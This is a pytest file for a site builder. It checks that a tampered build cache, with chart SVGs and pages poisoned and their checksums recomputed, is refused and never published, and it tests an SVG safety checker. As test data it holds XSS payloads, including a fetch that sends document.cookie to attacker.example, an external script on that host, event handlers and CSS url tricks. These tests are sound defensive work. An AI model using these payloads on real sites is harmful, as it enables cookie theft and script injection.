"""T3: a poisoned build cache publishes nothing the build did not make.

Each test poisons a real cache, filled by a real build of a small repository, the way someone who
can write the cache folder would: entries rewritten and every checksum beside them recomputed as
okrsite computes it. The rebuilt site holds none of it, and the entries are refused and redrawn.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from okrsite.model.errors import OkrsiteError
from okrsite.pipeline import build_site
from okrsite.site.builder import cache_key as cache_key_module
from okrsite.site.builder.cache_key import ENVIRONMENT, cache_key
from okrsite.site.builder.chart_cache import CHARTS, ChartCache
from okrsite.site.builder.quarter_cache import MANIFEST, QUARTERS, SITE
from okrsite.site.builder.tally import Tally
from okrsite.site.charts import Chart
from okrsite.site.charts.svg_check import UnsafeSvg, check_svg
from tests.conftest import WriteRepo
from tests.test_site import TODAY, small_repo, tree

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
POISONS = {
    "script": (
        "</svg>",
        "<script>fetch('https://attacker.example/'+document.cookie)</script></svg>",
    ),
    "onload": ("<svg ", '<svg onload="alert(document.domain)" '),
    "foreignObject": (
        "</svg>",
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" '
        'onerror="alert(1)"/></body></foreignObject></svg>',
    ),
    "xlink-href": (
        "</svg>",
        f'<image {XLINK} xlink:href="https://attacker.example/pixel.png"/></svg>',
    ),
    "use-href": (
        "</svg>",
        f'<g><use {XLINK} xlink:href="https://attacker.example/x.svg#a"/></g></svg>',
    ),
    "css-import": ("<style>", "<style>@import url(https://attacker.example/x.css);"),
    "css-url": ("</svg>", '<rect style="fill:url(https://attacker.example/p#a)"/></svg>'),
}
"""What each poisoned chart gets: (the text replaced once, what replaces it)."""


@pytest.fixture
def progress() -> list[str]:
    """The progress lines of the builds a test runs."""
    return []


def build(root: Path, out: Path, cache: Path, lines: list[str]) -> Tally:
    """Build root's site into out with cache, in this process, keeping its progress lines."""
    return build_site(root, out, today=TODAY, cache=cache, workers=0, progress=lines.append)


@pytest.fixture
def cached(write_repo: WriteRepo, tmp_path: Path, progress: list[str]) -> tuple[Path, Path, Path]:
    """A small repository, its site built without a cache (the reference) and a cache filled by
    a first build: (root, reference, cache)."""
    root = small_repo(write_repo)
    build_site(root, tmp_path / "reference", today=TODAY, cache=None, workers=0)
    build(root, tmp_path / "first", tmp_path / "cache", progress)
    return root, tmp_path / "reference", tmp_path / "cache"


def chart_entries(cache: Path) -> list[Path]:
    """Every chart entry in cache, sorted."""
    return sorted((cache / CHARTS).rglob("*.json"))


def poison_chart(entry: Path, old: str, new: str) -> None:
    """Rewrite the SVG of entry, its checksum recomputed as chart_cache computes it."""
    _, _, payload = entry.read_bytes().partition(b"\n")
    fields = json.loads(payload)
    assert old in fields["svg"]
    fields["svg"] = fields["svg"].replace(old, new, 1)
    payload = json.dumps(fields, ensure_ascii=True, sort_keys=True).encode("ascii")
    entry.write_bytes(hashlib.sha256(payload).hexdigest().encode("ascii") + b"\n" + payload)


def published(site: Path) -> str:
    """Every file of a built site, as one text."""
    return "\n".join(data.decode("utf-8", "replace") for data in tree(site).values())


@pytest.mark.parametrize("poison", sorted(POISONS))
def test_a_poisoned_chart_is_refused_and_redrawn(
    cached: tuple[Path, Path, Path], tmp_path: Path, progress: list[str], poison: str
) -> None:
    """T3: chart SVGs rewritten with script, a handler, foreignObject or an outside reference,
    checksums recomputed, are refused, drawn again, and never published."""
    root, reference, cache = cached
    old, new = POISONS[poison]
    entries = chart_entries(cache)
    for entry in entries:
        poison_chart(entry, old, new)
    for quarter in (cache / QUARTERS).iterdir():  # so the charts are looked up, not reused
        (quarter / MANIFEST).unlink()
    progress.clear()
    again = build(root, tmp_path / "again", cache, progress)
    assert tree(tmp_path / "again") == tree(reference)
    assert "attacker.example" not in published(tmp_path / "again")
    assert (again.charts_cached, again.charts_drawn) == (0, len(entries))
    assert len(again.charts_refused) == len(entries)
    warnings = [line for line in progress if "refused and drawn again" in line]
    assert len(warnings) == 2  # one line a quarter
    assert warnings[0].startswith("warning: 2026-Q3: ")
    # Each entry was written back as drawn: the next build takes them all.
    for entry in chart_entries(cache):
        _, _, payload = entry.read_bytes().partition(b"\n")
        check_svg(json.loads(payload)["svg"])


def test_a_poisoned_built_page_is_refused_and_rebuilt(
    cached: tuple[Path, Path, Path], tmp_path: Path, progress: list[str]
) -> None:
    """T3: a kept quarter's page given a script, its manifest's digests and checksum recomputed
    (as a plain SHA-256 and as an HMAC under a key the attacker chose), is never restored."""
    root, reference, cache = cached
    entry = cache / QUARTERS / "2026-Q3"
    page = entry / SITE / "index.html"
    data = page.read_bytes().replace(
        b"</body>", b"<script src='https://attacker.example/x.js'></script></body>"
    )
    page.write_bytes(data)
    _, _, payload = (entry / MANIFEST).read_bytes().partition(b"\n")
    manifest = json.loads(payload)
    manifest["files"]["index.html"] = [len(data), hashlib.sha256(data).hexdigest()]
    payload = json.dumps(manifest, sort_keys=True).encode("utf-8")
    for checksum in (
        hashlib.sha256(payload).hexdigest(),
        hmac.new(b"attacker", payload, hashlib.sha256).hexdigest(),
    ):
        (entry / MANIFEST).write_bytes(checksum.encode("ascii") + b"\n" + payload)
        progress.clear()
        again = build(root, tmp_path / "again", cache, progress)
        assert tree(tmp_path / "again") == tree(reference)
        assert "attacker.example" not in published(tmp_path / "again")
        assert "2026-Q3" in again.built and "2026-Q3" not in again.reused
        assert "rebuilding 2026-Q3: its kept copy is not signed by this cache's key" in progress
        page.write_bytes(data)  # the rebuild replaced the entry: poison it again
        (entry / SITE / "planted.html").write_bytes(b"<script>alert(1)</script>")


def test_a_drawn_chart_with_unsafe_svg_stops_the_build() -> None:
    """T3: a chart drawn with script (a bug, or data reaching the SVG unescaped) is an error,
    with or without a cache."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

    def draw() -> Chart:
        return Chart(slug="kr-x", title="t", description="d", svg=svg, table=())

    with pytest.raises(OkrsiteError, match=r"^chart 'kr-x' was drawn with SVG okrsite never"):
        ChartCache(None).chart(draw)
    with pytest.raises(UnsafeSvg, match="element 'script'"):
        check_svg(svg)


@pytest.mark.parametrize(
    "svg",
    [
        '<!DOCTYPE svg [<!ENTITY e "&#60;script&#62;">]><svg xmlns="http://www.w3.org/2000/svg">'
        "<text>&e;</text></svg>",
        '<svg xmlns="http://www.w3.org/2000/svg"><?xml-stylesheet href="https://a.example/"?></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text/></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://a.example/#p)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:u\\72l(https://a.example)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><g xmlns:h="http://www.w3.org/1999/xhtml">'
        "<h:script>alert(1)</h:script></g></svg>",
        '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="#fff" onclick="x()"/></svg>',
        "<svg><g/></svg>",
    ],
    ids=["entity", "stylesheet-pi", "javascript", "url", "css-escape", "xhtml", "handler", "no-ns"],
)
def test_the_svg_check_refuses_what_vl_convert_never_writes(svg: str) -> None:
    """T3: entities, processing instructions, links, outside url()s, CSS escapes, other
    namespaces and handlers are each refused."""
    with pytest.raises(UnsafeSvg):
        check_svg(svg)


def test_a_cache_signed_by_another_key_reuses_its_charts_not_its_quarters(
    cached: tuple[Path, Path, Path],
    tmp_path: Path,
    progress: list[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """T3: a cache from elsewhere (a CI cache, another machine) gives its checked charts, and
    every quarter is built again."""
    root, reference, cache = cached
    monkeypatch.setenv(ENVIRONMENT, "another machine's key")
    cache_key.cache_clear()
    try:
        again = build(root, tmp_path / "again", cache, progress)
    finally:
        cache_key.cache_clear()
    assert tree(tmp_path / "again") == tree(reference)
    assert (again.reused, again.built) == ([], ["2026-Q3", "2026-Q4"])
    assert again.charts_drawn == 0 and again.charts_cached > 0


@pytest.fixture
def state_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """No key in the environment, the state folder in tmp_path: the key a user's builds use."""
    monkeypatch.delenv(ENVIRONMENT)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    cache_key.cache_clear()
    yield tmp_path / "state"
    cache_key.cache_clear()


def test_the_key_is_kept_outside_the_cache_for_the_user_alone(state_folder: Path) -> None:
    """T3: the key is made once, in the state folder, readable by the user alone, and kept."""
    key = cache_key()
    path = cache_key_module.key_file()
    assert path == state_folder / "okrsite" / "cache-key"
    assert path.read_bytes() == key and len(key) == 64
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    cache_key.cache_clear()
    assert cache_key() == key  # the next build's is the same
    assert not [p for p in path.parent.iterdir() if p.name != "cache-key"]


def test_without_a_place_for_the_key_a_build_keeps_its_own(state_folder: Path) -> None:
    """T3: a state folder that cannot be written gives each build a key of its own."""
    state_folder.write_text("a file, not a folder", encoding="utf-8")
    first = cache_key()
    cache_key.cache_clear()
    assert cache_key() != first
    assert len(first) == 64 and not os.path.isdir(state_folder)
